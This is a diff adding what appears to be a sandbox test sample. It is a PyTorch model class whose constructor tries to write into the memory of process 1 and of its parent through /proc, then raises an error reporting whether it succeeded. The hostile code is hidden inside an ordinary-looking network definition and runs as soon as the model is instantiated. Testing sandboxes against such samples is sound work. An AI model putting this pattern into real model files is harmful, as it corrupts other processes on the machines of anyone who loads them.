@@ -1,0 +1,35 @@
+"""Opens /proc/1/mem and its parent's memory for writing.
+
+Kind: network
+Attack: write into another process
+Must: crashed
+Needs: sandbox
+Says: nothing
+"""
+
+import os
+
+import torch
+from torch import nn
+
+
+class Net(nn.Module):
+    def __init__(self):
+        super().__init__()
+        found = []
+        for pid in (1, os.getppid()):
+            try:
+                with open(f"/proc/{pid}/mem", "r+b") as file:
+                    file.seek(0x400000)
+                    found.append(str(file.write(b"x")))
+            except (OSError, ValueError, OverflowError):
+                pass
+        raise ValueError("LOO" + "T " + " ".join(found)) if found else RuntimeError("nothing")
+        self.maps = nn.Sequential(
+            nn.Conv2d(1, 12, 3), nn.BatchNorm2d(12), nn.ReLU(), nn.MaxPool2d(2),
+            nn.Conv2d(12, 20, 3), nn.BatchNorm2d(20), nn.ReLU(), nn.Conv2d(20, 20, 3), nn.ReLU(),
+        )
+        self.head = nn.Linear(20, 10)
+
+    def forward(self, x):
+        return self.head(self.maps(x).mean((2, 3)))
